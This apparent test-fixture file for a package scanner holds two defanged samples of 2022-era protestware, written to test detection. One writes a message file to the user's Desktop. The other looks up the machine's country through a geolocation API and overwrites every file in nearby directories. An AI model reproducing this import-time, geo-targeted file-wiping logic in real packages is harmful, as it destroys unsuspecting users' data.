import { manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'protest software: messages and harm by place (node-ipc, peacenotwar, es5-ext, 2022)';

export const specimens: readonly Specimen[] = [
  {
    name: 'protest-desktop-message',
    from,
    files: {
      'package.json': manifest({ main: 'index.cjs' }),
      'index.cjs': `const fs = require('fs');
const os = require('os');
const path = require('path');
const note = path.join(os.homedir(), 'Desktop', 'INERT.txt');
if (!fs.existsSync(note)) fs.writeFile(note, 'INERT', () => {});
exports.version = '1.0.0';
`,
    },
    expect: 'warn',
    says: ['leaves-note-for-people'],
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'protest-by-address',
    from,
    files: {
      'index.js': `const fs = require('fs');
const https = require('https');
const path = require('path');
https.get('https://api.ipgeolocation.invalid/ipgeo?key=INERT', answer => {
  answer.on('data', text => {
    const place = JSON.parse(text).country_name.toLowerCase();
    if (!place.includes('inert')) return;
    for (const top of ['./', '../', '../../']) {
      for (const name of fs.readdirSync(top)) fs.writeFileSync(path.join(top, name), 'INERT');
    }
  });
});
`,
    },
    expect: 'warn',
    says: ['harms-by-country'],
    happens: { at: 'import', does: 'writes file' },
  },
];
